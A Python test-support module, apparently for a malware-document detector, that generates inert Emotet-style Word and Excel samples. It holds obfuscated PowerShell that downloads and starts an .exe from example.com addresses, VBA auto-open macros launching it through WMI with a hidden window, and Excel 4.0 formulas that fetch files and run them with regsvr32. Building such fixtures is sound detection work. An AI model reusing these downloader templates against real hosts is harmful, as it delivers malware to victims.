"""Inert documents like Emotet's, as artifacts: the layouts of 2018-12 to 2022 with random names, separators and controls.

The macros are skeletons of our own writing after the description of the campaigns; every address is below example.com.
"""

from __future__ import annotations

import string
from base64 import b64encode
from random import Random

from support.draws import letters
from support.looking import HERE

from mimawari.model import OfficeDocument
from mimawari.model.office import Control, DefinedName, Formula, Module, Properties, Sheet, VbaProject

WORD = "1Normal.ThisDocument"
PREFIX, HEX = "abcdefghij", "0123456789abcdef"


def name(draw: Random) -> str:
    """A name in one of the builder's styles."""
    style = draw.randrange(3)
    if style == 0:
        return draw.choice(string.ascii_uppercase) + letters(draw, 7, 12)
    if style == 1:
        return "a0x" + letters(draw, 10, 14, HEX)
    return draw.choice(("Rubber", "Tasty", "Licensed_Metal", "Checking_Account", "Gorgeous")) + letters(draw, 3, 3)


def addresses(draw: Random, count: int = 5) -> list[str]:
    folders = ("wp-content", "wp-includes", "wp-admin", "cgi-bin")
    last = string.ascii_lowercase + string.digits
    hosts = [f"http://{letters(draw, 4, 9)}.example.com" for _ in range(count)]
    return [f"{host}/{draw.choice(folders)}/{letters(draw, 3, 8, last)}/" for host in hosts]


def _broken(draw: Random, word: str) -> str:
    """A method's name in quotes with back-ticks, or a literal in pieces."""
    at = draw.randint(1, len(word) - 1)
    return f'"{word[:at]}`{word[at:]}"'.replace("`n", "n").replace("`t", "t").replace("`r", "r")


def _pieces(draw: Random, word: str) -> str:
    first, second = sorted(draw.sample(range(1, len(word)), 2))
    return f"('{word[:first]}'+'{word[first:second]}'+'{word[second:]}')"


def command(draw: Random) -> str:
    """PowerShell after the grammar of 2019 to 2020-01."""
    joiner = draw.choice("@*")
    path, client, urls, one, number = (f"${name(draw)}" for _ in range(5))
    junk = [f"${name(draw)}='{name(draw)}';" for _ in range(6)]
    split = "[char]42" if joiner == "*" and draw.random() < 0.3 else f"'{joiner}'"
    start = draw.choice((f"[diagnostics.process]::{_broken(draw, 'start')}({path})", f"&{_pieces(draw, 'invoke-item')} {path}"))
    text = (
        f"{junk[0]}{number} = '{draw.randint(10, 999)}';{junk[1]}{path}=$env:userprofile+'\\'+{number}+'.exe';{junk[2]}"
        f"{client}=&{_pieces(draw, 'new-object')} net.webclient;"
        f"{urls}='{joiner.join(addresses(draw))}'.{_broken(draw, 'split')}({split});"
        f"{junk[3]}foreach({one} in {urls}){{try{{{client}.{_broken(draw, 'downloadfile')}({one}, {path});{junk[4]}"
        f"if ((&{_pieces(draw, 'get-item')} {path}).{_broken(draw, 'length')} -ge {draw.randint(20458, 39936)}) "
        f"{{{start};{junk[5]}break}}}}catch{{}}}}"
    )
    return "".join(letter.upper() if draw.random() < 0.3 and letter != "\\" else letter for letter in text)


def encoded(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode("ascii")


def separator(draw: Random) -> str:
    """A repeated digit, a hexadecimal number, a pseudo-word, or letters with signs."""
    return draw.choice(
        (
            draw.choice(string.digits) * draw.randint(2, 4),
            "0x" + letters(draw, 3, 4, HEX),
            "".join((draw.choice("bdfgk"), "aeiou"[draw.randrange(5)], draw.choice("lmnprs"), "q")),
            "/" + letters(draw, 7, 20, string.ascii_letters + string.digits) + "=",
        )
    )


def strewn(draw: Random, text: str, between: str) -> str:
    """*text* with *between* put in after every few characters, where taking it out again gives the same text."""
    parts, at = [], 0
    while at < len(text):
        step = draw.randint(2, 9)
        parts.append(text[at : at + step])
        at += step
    return between.join(parts)


def good_separator(draw: Random, *texts: str) -> str:
    """A separator that can be taken out of each of *texts* without hurting it."""
    for _ in range(1000):
        one = separator(draw)
        if all(strewn(draw, text, one).replace(one, "") == text and one not in text for text in texts):
            return one
    raise AssertionError


def word_document(draw: Random, *, in_form: bool, is_fresh: bool = True, is_encoded: bool = True) -> OfficeDocument:
    """A document as of 2019-09 to 2020-01: WMI under hidden names, the command in a control of the page or of a form."""
    own, first, second, form = (name(draw) for _ in range(4))
    main, strip, startup, small, big = (name(draw) for _ in range(5))
    text = encoded(command(draw)) if is_encoded else "not a command " * 200
    words = ("winmgmts:Win32_Process", "winmgmts:Win32_ProcessStartup")
    between = good_separator(draw, text, *words)
    undefined = [name(draw) for _ in range(3)]
    owner = form if in_form else own
    start = draw.choice(("autoopen", "Document_open"))
    code = (
        f'Function {main}()\nOn Error Resume Next\nx = "p" + {strip}({owner}.{small} + {owner}.{big})\n'
        f'Set o = GetObject({strip}({strip}("{strewn(draw, words[0], between)}")))\n'
        f"y = y + o.Create(x, {undefined[0]}, {startup}(), {undefined[1]})\nEnd Function\n"
        f'Function {strip}(a)\n{strip} = Replace(a, "{between}", "")\nEnd Function\n'
    )
    other = (
        f'Function {startup}()\nSet {startup} = GetObject({strip}({strip}("{strewn(draw, words[1], between)}")))\n'
        f"{startup}.ShowWindow = {draw.choice(('wdLinkNone', 'False', undefined[2]))}\nEnd Function\n"
    )
    begin = f"Sub {start}()\n{main}\nEnd Sub\n"
    in_own = start == "Document_open"
    modules: tuple[Module, ...] = (
        Module(name=own, form="document", base=WORD, source=begin if in_own else ""),
        Module(name=first, source=code),
        Module(name=second, source=other + ("" if in_own else begin)),
    )
    held = strewn(draw, text, between)
    controls = (
        Control(owner=owner, name=small, text=strewn(draw, "owershell -enco ", between), stored=120, in_form=in_form),
        Control(owner=owner, name=big, text=held, stored=0 if in_form else len(held), in_form=in_form),
    )
    if in_form:
        modules += (Module(name=form, form="form"),)
    return OfficeDocument(
        origin=HERE.at("x.doc"), name="x.doc", application="word", shell="ole", vba=VbaProject(name="Project", modules=modules),
        controls=controls, properties=properties(draw) if is_fresh else Properties(),
    )  # fmt: skip


def properties(draw: Random) -> Properties:
    """As the builder left them: never edited, saved in the minute of its making."""
    moment = f"2019-10-{draw.randint(1, 28):02}T{draw.randint(0, 23):02}:{draw.randint(0, 59):02}:00Z"
    return Properties(revision=1, edit_minutes=0, created=moment, saved=moment, author="Jenna Example")


def sheet_document(draw: Random, urls: list[str], *, folder: str = "..\\", loader: str = "regsvr32.exe /S ") -> OfficeDocument:
    """A workbook as of 2022: each address is tried in turn, and what comes is given to a loader."""
    stem = letters(draw, 3, 6)
    end = draw.choice(("ocx", "dll", "ooccxx"))
    formulas = []
    for number, url in enumerate(urls):
        call = f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","{folder}{stem}{number}.{end}",0,0)'
        formulas.append(Formula(sheet="S1", cell=f"G{number + 5}", text=call if number == 0 else f"IF({stem}{number}<0,{call})"))
        formulas.append(
            Formula(sheet="S1", cell=f"H{number + 5}", text=f'EXEC("C:\\Windows\\System32\\{loader}{folder}{stem}{number}.{end}")')
        )
    formulas.append(Formula(sheet="S1", cell="G30", text="RETURN()"))
    return OfficeDocument(
        origin=HERE.at("x.xls"), name="x.xls", application="excel", shell="ole",
        sheets=(Sheet(name="Sheet1"), Sheet(name="S1", form="macrosheet", state="hidden")), formulas=tuple(formulas),
        defined_names=(DefinedName(name="_xlnm.Auto_Open", text="S1!$G$1"),),
    )  # fmt: skip
